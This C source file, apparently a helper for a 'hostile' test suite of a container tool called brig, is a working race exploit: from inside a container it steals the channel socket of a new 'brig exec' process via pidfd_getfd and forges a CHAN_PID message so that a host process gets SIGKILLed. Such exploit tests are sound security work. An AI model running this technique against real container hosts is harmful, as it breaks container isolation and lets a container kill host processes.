/* chanrace (hostile.bats): run in a container with CAP_SYS_PTRACE (no user
 * namespace).  Waits for the next process to appear in its pid namespace
 * (brig exec's process, before execve), takes its channel to `brig exec`
 * with pidfd_getfd and sends a CHAN_PID naming a HOST pid.  brig exec
 * takes the first CHAN_PID it reads, fails on the helper's real one and
 * SIGKILLs "the process": the host pid.
 *   chanrace REPORT VICTIM_HOST_PID SECONDS [STOP]   (STOP: a file that ends it) */

#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <poll.h>
#include <time.h>
#include <unistd.h>

static int last_pid(int fd)
{
	char b[32];
	ssize_t n = pread(fd, b, sizeof(b) - 1, 0);
	if (n <= 0)
		return -1;
	b[n] = 0;
	return atoi(b);
}

int main(int argc, char **argv)
{
	if (argc < 4)
		return 2;
	FILE *rep = fopen(argv[1], "a");
	const char *victim = argv[2];
	double secs = atof(argv[3]);
	struct timespec t0, t;
	int lp = open("/proc/sys/kernel/ns_last_pid", O_RDONLY);
	int wins = 0, tries = 0;

	setvbuf(rep, NULL, _IOLBF, 0);
	fprintf(rep, "READY\n");
	clock_gettime(CLOCK_MONOTONIC, &t0);
	for (;;) {
		clock_gettime(CLOCK_MONOTONIC, &t);
		if (t.tv_sec - t0.tv_sec + (t.tv_nsec - t0.tv_nsec) / 1e9 > secs ||
		    (argc > 4 && access(argv[4], F_OK) == 0))
			break;
		int next = last_pid(lp) + 1;
		int pfd = (int)syscall(SYS_pidfd_open, next, 0);
		if (pfd < 0)
			continue;
		tries++;
		for (int fd = 3; fd < 8; fd++) {
			int s = (int)syscall(SYS_pidfd_getfd, pfd, fd, 0), type = 0;
			socklen_t l = sizeof(type);
			if (s < 0)
				continue;
			if (getsockopt(s, SOL_SOCKET, SO_TYPE, &type, &l) == 0 && type == SOCK_SEQPACKET) {
				char msg[64];
				uint32_t h[2] = {7 /* CHAN_PID */, (uint32_t)strlen(victim)};
				memcpy(msg, h, 8);
				memcpy(msg + 8, victim, h[1]);
				if (write(s, msg, 8 + h[1]) > 0) {
					wins++;
					fprintf(rep, "SENT pid=%d fd=%d\n", next, fd);
				}
			}
			close(s);
		}
		/* wait for that one to go before looking again */
		struct pollfd pf = {.fd = pfd, .events = POLLIN};
		poll(&pf, 1, 3000);
		close(pfd);
	}
	fprintf(rep, "tries=%d sent=%d\nDONE\n", tries, wins);
	return 0;
}
